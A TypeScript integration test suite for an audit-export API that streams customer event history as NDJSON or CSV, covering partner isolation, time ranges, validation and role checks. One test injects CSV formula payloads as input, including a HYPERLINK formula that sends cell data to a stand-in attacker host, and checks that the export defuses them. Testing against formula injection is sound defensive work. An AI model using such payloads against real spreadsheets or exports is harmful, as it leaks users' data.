import { randomUUID } from 'node:crypto';
import type { IncomingMessage, Server, ServerResponse } from 'node:http';
import { CustomerEventType, customerStream, SCHEMA_VERSIONS } from '@app/domain';
import { EVENT_WRITER, EventWriter, ExpectedRevision, formatPosition } from '@app/event-store';
import { billingProfile } from '../support/customers';
import { httpClient } from '../support/http-client';
import { startTestApp, TestApp } from '../support/test-app';
import { parseCsv } from '../support/csv';

/** GET /v1/audit/export: the audit records (history items plus customerId), streamed as NDJSON or CSV. */

const fresh = (label: string) => `${label}-${randomUUID().slice(0, 8)}`;

const CSV_HEADER = ['customerId', 'revision', 'position', 'type', 'occurredAt', 'actorSub', 'actorPartnerId', 'actorRoles', 'commandId', 'correlationId', 'data'];
const FORMULA_START = /^[=+\-@\t\r]/;

interface AuditRecord {
  revision: number;
  position: string;
  type: string;
  occurredAt: string;
  data: unknown;
  actor: { sub: string; partnerId: string; roles: string[] };
  commandId: string;
  correlationId: string;
  customerId: string;
}

/** Reads a streamed body as text whatever its content type. */
function asText(req: ReturnType<TestApp['http']['get']>) {
  return req.buffer(true).parse((res, done) => {
    let body = '';
    res.setEncoding('utf8');
    res.on('data', (chunk: string) => (body += chunk));
    res.on('end', () => done(null, body));
  });
}

function ndjsonLines(body: string): string[] {
  if (body === '') return [];
  expect(body.endsWith('\n')).toBe(true);
  return body.slice(0, -1).split('\n');
}

/** The CSV cells an audit record should become (values as a spreadsheet reads them back, before defusing). */
function csvCells(r: AuditRecord): string[] {
  return [r.customerId, String(r.revision), r.position, r.type, r.occurredAt, r.actor.sub, r.actor.partnerId, r.actor.roles.join(';'), r.commandId, r.correlationId];
}

describe('audit export over HTTP', () => {
  let t: TestApp;
  let c: ReturnType<typeof httpClient>;
  let store: EventWriter;

  const exportOf = (auth: string | undefined, query: Record<string, string>) => asText(c.get(auth, '/v1/audit/export', query));
  const history = async (auth: string, id: string) =>
    (await c.get(auth, `/v1/customers/${id}/history`, { limit: 1000 }).expect(200)).body.items as Omit<AuditRecord, 'customerId'>[];

  /** Appends straight to the service's event store, with the metadata the command path writes, at a chosen occurredAt. */
  function directWriter() {
    const revisions = new Map<string, bigint>();
    return async (partnerId: string, tenantId: string, types: { type: CustomerEventType; data: unknown }[], occurredAt: string, sub = 'importer') => {
      const stream = customerStream(partnerId, tenantId);
      const last = revisions.get(stream);
      const expected: ExpectedRevision = last === undefined ? 'no_stream' : last;
      const commandId = randomUUID();
      const metadataOf = (type: CustomerEventType) => ({
        commandId,
        correlationId: `corr-${commandId}`,
        causationId: commandId,
        actor: { sub, partnerId, roles: ['admin-agent'] },
        occurredAt,
        schemaVersion: SCHEMA_VERSIONS[type],
      });
      const result = await store.append(
        stream,
        types.map(({ type, data }) => ({ id: randomUUID(), type, data, metadata: metadataOf(type) })),
        expected,
      );
      revisions.set(stream, result.nextRevision);
      const first = Number(result.nextRevision) - types.length + 1;
      return types.map(({ type, data }, i): AuditRecord => ({
        revision: first + i,
        // Only the last event's position is returned; callers that need each use one event per append.
        position: formatPosition(result.position),
        type,
        occurredAt,
        data,
        actor: { sub, partnerId, roles: ['admin-agent'] },
        commandId,
        correlationId: `corr-${commandId}`,
        customerId: tenantId,
      }));
    };
  }

  const established = (partnerId: string, tenantId: string, companyName: string) => ({
    type: 'CustomerRelationshipEstablished' as const,
    data: { tenantId, partnerId, companyName, domain: `${tenantId.slice(0, 8)}.example.com` },
  });
  const renamed = (previousName: string, companyName: string) => ({ type: 'CustomerRenamed' as const, data: { previousName, companyName } });

  beforeAll(async () => {
    t = await startTestApp();
    c = httpClient(t);
    store = t.app.get<EventWriter>(EVENT_WRITER);
  });
  afterAll(() => t.close());

  it("NDJSON of one customer is, line by line, that customer's history items plus customerId", async () => {
    const partnerId = fresh('ndjson');
    const auth = await c.bearer(partnerId, { sub: 'writer-1', roles: ['admin-agent', 'auditor'] });
    const auditor = await c.bearer(partnerId, { sub: 'auditor-1', roles: ['auditor'] });
    const { companyName: _n, ...details } = billingProfile();

    const created = await c.establish(auth, { companyName: 'Export Co', billingProfile: details }, { 'X-Correlation-Id': 'corr-export-1' });
    const other = await c.establish(auth, { companyName: 'Other Co' });
    await c.rename(auth, created.id, 'Export Co (EMEA)');
    await c.rename(auth, other.id, 'Other Co renamed');
    await c.putBilling(auth, created.id, 1, billingProfile({ companyName: 'Export Co (EMEA)', email: 'billing@export.example.com' }));
    await c.post(auth, created.id, 'self-purchase/grant');
    await c.post(auth, created.id, 'self-purchase/revoke', { resources: ['AzureSavingsPlan'] });
    await c.post(auth, created.id, 'cost-management/enable');
    await c.post(auth, created.id, 'cost-management/disable');
    // The same tenant as another partner's customer: never part of this partner's export.
    const lookalike = await c.bearer(`${partnerId}-b`);
    await c.establish(lookalike, { tenantId: created.id, companyName: 'Same tenant, other partner' });
    await c.rename(lookalike, created.id, 'Other partner rename');

    const items = await history(auditor, created.id);
    expect(items.map((i) => i.type)).toEqual([
      'CustomerRelationshipEstablished',
      'CustomerRenamed',
      'BillingProfileUpdated',
      'SelfPurchaseGranted',
      'SelfPurchaseRevoked',
      'CostManagementEnabled',
      'CostManagementDisabled',
    ]);

    const queries: Record<string, string>[] = [{ customer: created.id }, { customer: created.id, format: 'ndjson' }, { customer: created.id.toUpperCase() }];
    for (const query of queries) {
      const res = await exportOf(auditor, query).expect(200);
      expect(res.headers['content-type']).toMatch(/^application\/x-ndjson\b/);
      expect(res.headers['content-disposition']).toMatch(/^attachment\b/);
      expect(res.headers['content-disposition']).toMatch(/filename="?[^"]*\.ndjson"?/);
      const lines = ndjsonLines(res.body as string);
      expect(lines).toHaveLength(items.length);
      lines.forEach((line, i) => {
        expect(JSON.parse(line)).toEqual({ ...items[i], customerId: created.id });
        expect(line).toBe(JSON.stringify({ ...items[i], customerId: created.id }));
      });
    }
  });

  it('CSV: the header, one row per record, RFC 4180 quoting, and cells a spreadsheet would run as a formula defused', async () => {
    const partnerId = fresh('csv');
    // Subjects and correlation ids are caller-controlled text that lands in cells of their own.
    const evilSub = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")\nsecond line';
    const tabSub = '\t@SUM(1+1)';
    const evil = await c.bearer(partnerId, { sub: evilSub, roles: ['admin-agent', 'auditor'] });
    const tabbed = await c.bearer(partnerId, { sub: tabSub });
    const plain = await c.bearer(partnerId, { sub: 'plain-user' });
    const auditor = await c.bearer(partnerId, { roles: ['auditor'] });

    const created = await c.establish(evil, { companyName: '=SUM(A1:A9)' }, { 'X-Correlation-Id': '-2+3' });
    await c.rename(tabbed, created.id, 'Contoso, "The Best" Ltd', { 'X-Correlation-Id': '@SUM(1+1),"x"' });
    await c.putBilling(plain, created.id, 1, billingProfile({ companyName: '+Plus, Ltd', defaultAddress: { addressLine1: '1, "Quoted" Way', city: 'Redmond', postalCode: '98052', country: 'US' } }), { 'X-Correlation-Id': 'plain-corr' });

    const ndjson = await exportOf(auditor, { customer: created.id }).expect(200);
    const records = ndjsonLines(ndjson.body as string).map((l) => JSON.parse(l) as AuditRecord);
    expect(records.map((r) => r.type)).toEqual(['CustomerRelationshipEstablished', 'CustomerRenamed', 'BillingProfileUpdated', 'CustomerRenamed']);

    const res = await exportOf(auditor, { customer: created.id, format: 'csv' }).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv\b/);
    expect(res.headers['content-disposition']).toMatch(/^attachment\b/);
    expect(res.headers['content-disposition']).toMatch(/filename="?[^"]*\.csv"?/);
    const body = res.body as string;
    expect(body.startsWith(`${CSV_HEADER.join(',')}\r\n`)).toBe(true);

    const rows = parseCsv(body);
    expect(rows[0]).toEqual(CSV_HEADER);
    expect(rows).toHaveLength(records.length + 1);
    const defused = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);
    rows.slice(1).forEach((row, i) => {
      expect(row).toHaveLength(CSV_HEADER.length);
      expect(row.slice(0, -1)).toEqual(csvCells(records[i]).map(defused));
      expect(JSON.parse(row[row.length - 1])).toEqual(records[i].data);
      // Nothing a spreadsheet reads back starts a formula.
      for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    });

    // Spelled out for the tricky cells.
    const [, first, second, third] = rows;
    expect(first[5]).toBe(`'${evilSub}`);
    expect(first[9]).toBe("'-2+3");
    expect(first[7]).toBe('admin-agent;auditor');
    expect(JSON.parse(first[10])).toMatchObject({ companyName: '=SUM(A1:A9)' });
    expect(second[5]).toBe(`'${tabSub}`);
    expect(second[9]).toBe(`'@SUM(1+1),"x"`);
    expect(JSON.parse(second[10])).toEqual({ previousName: '=SUM(A1:A9)', companyName: 'Contoso, "The Best" Ltd' });
    expect(third[5]).toBe('plain-user');
    expect(third[9]).toBe('plain-corr');
    expect(JSON.parse(third[10]).contact.defaultAddress.addressLine1).toBe('1, "Quoted" Way');
    // In the raw text: the defused cell is quoted and opens with the apostrophe; quotes are doubled.
    expect(body).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""open me"")\nsecond line",`);
    expect(body).toContain(`,"'@SUM(1+1),""x""",`);
    expect(body).toContain('""companyName"":""Contoso, \\""The Best\\"" Ltd""');
    // A cell without anything to quote is left bare.
    expect(body).toContain(',plain-user,');
  });

  it("a time range over all the caller's customers: from inclusive, to exclusive, in log order, only the caller's partner", async () => {
    const acme = fresh('acme');
    const acmeEu = `${acme}-eu`; // the caller's id is a prefix of this partner's
    const stranger = fresh('stranger');
    const direct = directWriter();
    const base = Date.parse('2021-06-01T00:00:00.000Z');
    const at = (minutes: number) => new Date(base + minutes * 60_000).toISOString();
    const [c1, c2, c3, c4, c5] = [randomUUID(), randomUUID(), randomUUID(), randomUUID(), randomUUID()];

    const log: { partner: string; record: AuditRecord }[] = [];
    const put = async (partner: string, tenant: string, event: { type: CustomerEventType; data: unknown }, minutes: number) => {
      const [record] = await direct(partner, tenant, [event], at(minutes));
      log.push({ partner, record });
      return record;
    };
    await put(acme, c4, established(acme, c4, 'Before Co'), -60);
    const r2 = await put(acme, c1, established(acme, c1, 'One Co'), 0); // exactly `from`: in
    await put(acmeEu, c3, established(acmeEu, c3, 'EU Co'), 1);
    const r4 = await put(acme, c2, established(acme, c2, 'Two Co'), 2);
    const r5 = await put(acme, c1, renamed('One Co', 'One Co renamed'), 3);
    await put(acme, c4, renamed('Before Co', 'Before Co renamed'), 10); // exactly `to`: out
    const r7 = await put(acme, c2, renamed('Two Co', 'Two Co backdated'), 5); // later in the log, earlier in time
    await put(acmeEu, c3, renamed('EU Co', 'EU Co renamed'), 4);
    await put(stranger, c5, established(stranger, c5, 'Stranger Co'), 4);
    const r9 = await put(acme, c1, { type: 'CostManagementEnabled', data: {} }, 10 - 1 / 60_000); // the last millisecond before `to`
    await put(acme, c2, renamed('Two Co backdated', 'Two Co later'), 11);
    // A write over HTTP now, far outside the range.
    const now = await c.establish(await c.bearer(acme), { companyName: 'Now Co' });

    const auditor = await c.bearer(acme, { roles: ['auditor'] });
    const inRange = [r2, r4, r5, r7, r9];
    const range = { from: at(0), to: at(10) };

    const res = await exportOf(auditor, range).expect(200);
    expect(res.headers['content-type']).toMatch(/^application\/x-ndjson\b/);
    expect(ndjsonLines(res.body as string).map((l) => JSON.parse(l))).toEqual(inRange);

    // The same instants written with an offset select the same records.
    const offset = await exportOf(auditor, { from: '2021-06-01T02:00:00+02:00', to: '2021-06-01T02:10:00.000+02:00' }).expect(200);
    expect(offset.body).toBe(res.body);

    // As CSV: the same records, one row each.
    const csv = await exportOf(auditor, { ...range, format: 'csv' }).expect(200);
    const rows = parseCsv(csv.body as string);
    expect(rows[0]).toEqual(CSV_HEADER);
    expect(rows.slice(1).map((r) => r.slice(0, -1))).toEqual(inRange.map(csvCells));

    // The lookalike partner sees only its own, in log order.
    const euAuditor = await c.bearer(acmeEu, { roles: ['auditor'] });
    const eu = await exportOf(euAuditor, range).expect(200);
    expect(ndjsonLines(eu.body as string).map((l) => JSON.parse(l))).toEqual(log.filter((e) => e.partner === acmeEu).map((e) => e.record));

    // Open-ended ranges.
    const fromOnly = await exportOf(auditor, { from: at(5) }).expect(200);
    const fromOnlyRecords = ndjsonLines(fromOnly.body as string).map((l) => JSON.parse(l) as AuditRecord);
    expect(fromOnlyRecords.slice(0, -1)).toEqual(log.filter((e) => e.partner === acme && Date.parse(e.record.occurredAt) >= Date.parse(at(5))).map((e) => e.record));
    expect(fromOnlyRecords[fromOnlyRecords.length - 1]).toMatchObject({ customerId: now.id, position: now.position, type: 'CustomerRelationshipEstablished' });
    const toOnly = await exportOf(auditor, { to: at(0) }).expect(200);
    expect(ndjsonLines(toOnly.body as string).map((l) => JSON.parse(l))).toEqual([log[0].record]);

    // One customer within a range.
    const one = await exportOf(auditor, { customer: c2, ...range }).expect(200);
    expect(ndjsonLines(one.body as string).map((l) => JSON.parse(l))).toEqual([r4, r7]);

    // A range with nothing in it is an empty export, not an error.
    const empty = await exportOf(auditor, { from: '2000-01-01T00:00:00Z', to: '2000-01-02T00:00:00Z' }).expect(200);
    expect(empty.body).toBe('');
    const emptyCsv = await exportOf(auditor, { from: '2000-01-01T00:00:00Z', to: '2000-01-02T00:00:00Z', format: 'csv' }).expect(200);
    expect(emptyCsv.body).toBe(`${CSV_HEADER.join(',')}\r\n`);
  });

  it('answers 400 without a customer or a range, for from >= to, an unknown format, a bad customer id or a bad instant', async () => {
    const partnerId = fresh('bad');
    const auth = await c.bearer(partnerId, { roles: ['admin-agent'] });
    const created = await c.establish(auth);
    const bad: Record<string, string>[] = [
      {},
      { format: 'csv' },
      { from: '2021-06-01T00:00:00Z', to: '2021-06-01T00:00:00Z' },
      { from: '2021-06-02T00:00:00Z', to: '2021-06-01T00:00:00Z' },
      { customer: created.id, from: '2021-06-02T00:00:00Z', to: '2021-06-01T00:00:00Z' },
      { customer: created.id, format: 'xml' },
      { from: '2021-06-01T00:00:00Z', format: 'json' },
      { customer: 'not-a-customer-id' },
      { customer: `${created.id}x` },
      { from: 'yesterday' },
      { to: '2021-13-01T00:00:00Z' },
    ];
    for (const query of bad) {
      const res = await c.get(auth, '/v1/audit/export', query);
      expect({ query, status: res.status }).toEqual({ query, status: 400 });
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.body).toMatchObject({ status: 400, code: 'VALIDATION_FAILED' });
    }
  });

  it("answers 404 for another partner's customer exactly as for a missing one", async () => {
    const ownerPartner = fresh('owner');
    const created = await c.establish(await c.bearer(ownerPartner));
    const other = await c.bearer(fresh('other'), { roles: ['auditor'] });

    for (const format of ['ndjson', 'csv']) {
      const foreign = await c.get(other, '/v1/audit/export', { customer: created.id, format }).expect(404);
      const missing = await c.get(other, '/v1/audit/export', { customer: randomUUID(), format }).expect(404);
      expect(foreign.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(foreign.body).toMatchObject({ status: 404, code: 'CUSTOMER_NOT_FOUND' });
      expect(foreign.body).toEqual(missing.body);
      expect(foreign.headers['content-disposition']).toBeUndefined();
    }
    // The owner's auditor gets it.
    await c.get(await c.bearer(ownerPartner, { roles: ['auditor'] }), '/v1/audit/export', { customer: created.id }).expect(200);
  });

  it('is for auditors and admin agents only; 401 without a valid token', async () => {
    const partnerId = fresh('roles');
    const created = await c.establish(await c.bearer(partnerId));
    const query = { customer: created.id };
    for (const role of ['sales-agent', 'helpdesk-agent', 'billing-admin']) {
      const res = await c.get(await c.bearer(partnerId, { roles: [role] }), '/v1/audit/export', query).expect(403);
      expect(res.body.code).toBe('FORBIDDEN');
      expect(res.headers['content-disposition']).toBeUndefined();
    }
    for (const role of ['auditor', 'admin-agent']) {
      const res = await exportOf(await c.bearer(partnerId, { roles: [role] }), query).expect(200);
      expect(ndjsonLines(res.body as string)).toHaveLength(1);
    }
    await c.get(undefined, '/v1/audit/export', query).expect(401);
    await c.get(undefined, '/v1/audit/export', { from: '2021-06-01T00:00:00Z' }).expect(401);
    await c.get('Bearer not-a-token', '/v1/audit/export', query).expect(401);
  });

  it('streams an export of hundreds of records completely, across page boundaries, skipping a lookalike partner in between', async () => {
    const partnerId = fresh('big');
    const lookalike = `${partnerId}-x`;
    const direct = directWriter();
    const big = randomUUID();
    const noise = randomUUID();
    const occurredAt = '2022-01-01T00:00:00.000Z';
    const expected: AuditRecord[] = [];

    // 1000 events in one stream: exactly two full pages of the export's reads. The lookalike's 600
    // events are interleaved, so range reads cross pages that hold none of the caller's.
    expected.push(...(await direct(partnerId, big, [established(partnerId, big, 'Name 0')], occurredAt)));
    await direct(lookalike, noise, [established(lookalike, noise, 'Noise 0')], occurredAt);
    for (let batch = 0; batch < 9; batch++) {
      const events = Array.from({ length: 111 }, (_, i) => renamed(`Name ${batch * 111 + i}`, `Name ${batch * 111 + i + 1}`));
      expected.push(...(await direct(partnerId, big, events, occurredAt)));
      if (batch < 6) await direct(lookalike, noise, Array.from({ length: 100 }, (_, i) => renamed(`Noise ${i}`, `Noise ${i + 1}`)), occurredAt);
    }
    expect(expected).toHaveLength(1000);
    const auditor = await c.bearer(partnerId, { roles: ['auditor'] });

    const check = (records: AuditRecord[]) => {
      expect(records).toHaveLength(1000);
      expect(records.map((r) => r.revision)).toEqual([...Array(1000).keys()]);
      expect(records.every((r) => r.customerId === big && r.actor.partnerId === partnerId)).toBe(true);
      expect(records.map(({ position: _p, ...r }) => r)).toEqual(expected.map(({ position: _p, ...r }) => r));
      expect(new Set(records.map((r) => r.position)).size).toBe(1000);
    };

    // Keeping to the client's pace must not pile up listeners on the response, one per wait.
    const server = t.app.getHttpServer() as Server;
    const closeListeners: number[] = [];
    const onRequest = (req: IncomingMessage, res: ServerResponse) => {
      if (req.url?.startsWith('/v1/audit/export')) res.once('finish', () => closeListeners.push(res.listenerCount('close')));
    };
    server.on('request', onRequest);
    expect((await exportOf(auditor, { from: '2030-01-01T00:00:00Z' }).expect(200)).body).toBe('');
    const byCustomer = await exportOf(auditor, { customer: big }).expect(200);
    expect(byCustomer.headers['content-length']).toBeUndefined();
    const customerRecords = ndjsonLines(byCustomer.body as string).map((l) => JSON.parse(l) as AuditRecord);
    check(customerRecords);
    const historyItems = await history(auditor, big);
    expect(customerRecords).toEqual(historyItems.map((h) => ({ ...h, customerId: big })));

    const byRange = await exportOf(auditor, { from: '2022-01-01T00:00:00Z', to: '2022-01-02T00:00:00Z' }).expect(200);
    const rangeRecords = ndjsonLines(byRange.body as string).map((l) => JSON.parse(l) as AuditRecord);
    check(rangeRecords);
    expect(rangeRecords).toEqual(customerRecords);

    const csv = await exportOf(auditor, { customer: big, format: 'csv' }).expect(200);
    const rows = parseCsv(csv.body as string);
    expect(rows).toHaveLength(1001);
    expect(rows.slice(1).map((r) => r.slice(0, -1))).toEqual(customerRecords.map(csvCells));

    const lookalikeAuditor = await c.bearer(lookalike, { roles: ['auditor'] });
    const noiseExport = await exportOf(lookalikeAuditor, { from: '2022-01-01T00:00:00Z', to: '2022-01-02T00:00:00Z' }).expect(200);
    expect(ndjsonLines(noiseExport.body as string)).toHaveLength(601);

    server.off('request', onRequest);
    // As many as an empty export's, however many times the big ones waited for the client.
    expect(closeListeners).toEqual(Array(5).fill(closeListeners[0]));
  });
});
